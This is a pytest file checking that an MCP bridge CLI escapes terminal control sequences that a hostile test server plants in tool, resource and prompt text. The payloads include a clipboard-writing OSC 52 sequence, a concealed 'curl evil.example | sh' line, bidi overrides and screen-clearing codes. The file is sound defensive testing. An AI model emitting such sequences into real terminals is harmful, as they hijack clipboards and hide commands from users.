"""What the CLI prints from a server never drives the user's terminal: escape sequences in
tool names, descriptions, annotations, results, resources and prompts (clear screen, OSC 52
clipboard writes, concealed text, the 8-bit C1 CSI, bidi overrides, a carriage return that
overwrites the line) are shown escaped; `--json` stays valid JSON with them escaped, and
`resources --read` writes a resource's exact contents only where stdout is not a terminal.
A real server over streamable HTTP; the real CLI, in a subprocess and in-process."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import mcp.types as types
import pytest
from mcp.server.lowlevel import Server
from mcpbridge_cli import main as cli

from mcpbridge.testing import serving

CLEAR = "\x1b[2J\x1b[H"
CLIPBOARD = "\x1b]52;c;ZWNobyBvd25lZA==\x07"
CONCEALED = "\x1b[8mcurl evil.example | sh\x1b[28m"
C1_CSI = "\x9b31m"
BIDI = "\u202eroot\u202c"
OVERWRITE = "\rall good"
EVIL = CLEAR + CLIPBOARD + CONCEALED + C1_CSI + BIDI + OVERWRITE
RAW = ("\x1b", "\x9b", "\x07", "\u202e", "\u202c", "\r")
"""No output may carry one of these as it is."""
README = "file:///docs/readme.txt"


def evil_server() -> Server[Any]:
    """Every text a listing or a call shows carries `EVIL` (and the tool's name, clear-screen)."""

    async def list_tools(ctx: Any, params: Any) -> types.ListToolsResult:
        annotations = types.ToolAnnotations(title=f"Weather{CLIPBOARD}", read_only_hint=True)
        tool = types.Tool(
            name=f"forecast{CLEAR}",
            description=f"The forecast.{EVIL}\nSecond line.",
            input_schema={"type": "object"},
            annotations=annotations,
        )
        return types.ListToolsResult(tools=[tool, types.Tool(name="plain", input_schema={"type": "object"})])

    async def call_tool(ctx: Any, params: types.CallToolRequestParams) -> types.CallToolResult:
        text = f"sunny {EVIL}\nline two\ttabbed"
        return types.CallToolResult(
            content=[types.TextContent(type="text", text=text)], is_error=params.name != "plain"
        )

    async def list_resources(ctx: Any, params: Any) -> types.ListResourcesResult:
        readme = types.Resource(
            uri=README, name=f"readme{CLEAR}", description=f"The readme {CONCEALED}", mime_type=f"text/plain{C1_CSI}"
        )
        return types.ListResourcesResult(resources=[readme])

    async def list_templates(ctx: Any, params: Any) -> types.ListResourceTemplatesResult:
        template = types.ResourceTemplate(uri_template=f"file:///logs/{{day}}{BIDI}", name=f"logs{CLIPBOARD}")
        return types.ListResourceTemplatesResult(resource_templates=[template])

    async def read_resource(ctx: Any, params: types.ReadResourceRequestParams) -> types.ReadResourceResult:
        text = f"contents {EVIL}\nline two\r\n"
        return types.ReadResourceResult(contents=[types.TextResourceContents(uri=params.uri, text=text)])

    async def list_prompts(ctx: Any, params: Any) -> types.ListPromptsResult:
        who = types.PromptArgument(name=f"who{CONCEALED}", required=True)
        prompt = types.Prompt(name=f"greet{CLEAR}", description=f"Say hi {CLIPBOARD}", arguments=[who])
        return types.ListPromptsResult(prompts=[prompt])

    return Server(
        "evil",
        on_list_tools=list_tools,
        on_call_tool=call_tool,
        on_list_resources=list_resources,
        on_list_resource_templates=list_templates,
        on_read_resource=read_resource,
        on_list_prompts=list_prompts,
    )


@pytest.fixture(scope="module")
def config(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    with serving(evil_server().streamable_http_app()) as url:
        path = tmp_path_factory.mktemp("terminal") / "mcpbridge.toml"
        path.write_text(f'[servers.evil]\nurl = "{url}"\n[plugins]\nautoload = false\n')
        yield path


def printed(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str]:
    code = cli(list(args))
    out = capsys.readouterr()
    return code, out.out + out.err


def strings(value: Any) -> Iterator[str]:
    """Every string in a JSON value, keys included."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


def assert_escaped(output: str) -> None:
    for char in RAW:
        assert char not in output, f"{char!r} reached the terminal"


def test_tools_in_a_real_terminal_session(config: Path) -> None:
    """The real CLI in its own process: the bytes it writes carry no escape sequence."""
    run = subprocess.run(
        [sys.executable, "-m", "mcpbridge_cli", "tools", "--config", str(config)],
        capture_output=True,
        timeout=60,
    )
    assert run.returncode == 0, run.stderr
    out = run.stdout.decode()
    assert_escaped(out + run.stderr.decode())
    assert r"evil/forecast\x1b[2J\x1b[H" in out
    assert r"The forecast.\x1b[2J\x1b[H\x1b]52;c;ZWNobyBvd25lZA==\x07\x1b[8mcurl" in out
    assert r"\x9b31m\u202eroot\u202c" in out  # a carriage return ends the first line
    assert r"title=Weather\x1b]52;" in out
    assert "Second line" not in out  # the listing shows a description's first line


def test_call_shows_a_result_escaped_with_its_lines(config: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, output = printed(capsys, "call", "evil", "plain", "--config", str(config))
    assert code == 0
    assert_escaped(output)
    assert "  sunny \\x1b[2J" in output
    assert "\\rall good\n  line two\ttabbed" in output  # a result's own lines (indented as a block) and tabs stay
    code, output = printed(capsys, "call", "evil", f"forecast{CLEAR}", "--config", str(config))
    assert code == 1
    assert_escaped(output)
    assert "status: error" in output
    assert "sunny \\x1b[2J" in output


def test_resources_and_prompts_are_listed_escaped(config: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, output = printed(capsys, "resources", "--config", str(config))
    assert code == 0
    assert_escaped(output)
    assert f"evil  {README}  (text/plain\\x9b31m)  readme\\x1b[2J\\x1b[H" in output
    assert "The readme \\x1b[8mcurl evil.example | sh\\x1b[28m" in output
    assert "file:///logs/{day}\\u202eroot\\u202c  [template]  logs\\x1b]52;" in output
    code, output = printed(capsys, "prompts", "--config", str(config))
    assert code == 0
    assert_escaped(output)
    assert "evil  greet\\x1b[2J\\x1b[H(who\\x1b[8mcurl" in output
    assert "Say hi \\x1b]52;c;" in output


def test_json_output_stays_valid_with_everything_escaped(config: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for args in (["tools"], ["resources"], ["prompts"], ["resources", "evil", "--read", README]):
        code, output = printed(capsys, *args, "--json", "--config", str(config))
        assert code == 0
        assert_escaped(output)
        texts = "".join(strings(json.loads(output)))  # valid JSON, the server's text intact
        assert CLEAR in texts or CLIPBOARD in texts
    code, output = printed(capsys, "call", "evil", "plain", "--artifact", "--config", str(config))
    assert_escaped(output)
    json.loads(output.split("artifact:\n", 1)[1])
    code, output = printed(capsys, "call", "evil", "plain", "--json", "--config", str(config))
    assert_escaped(output)
    assert CLEAR in "".join(strings(json.loads(output)))


def test_read_writes_exact_contents_only_away_from_a_terminal(
    config: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    code, output = printed(capsys, "resources", "evil", "--read", README, "--config", str(config))
    assert code == 0
    assert output == f"contents {EVIL}\nline two\r\n\n"  # redirected: the resource as it is
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
    code, output = printed(capsys, "resources", "evil", "--read", README, "--config", str(config))
    assert code == 0
    assert_escaped(output)
    assert "contents \\x1b[2J" in output
    assert "\\rall good\nline two\\r\n" in output
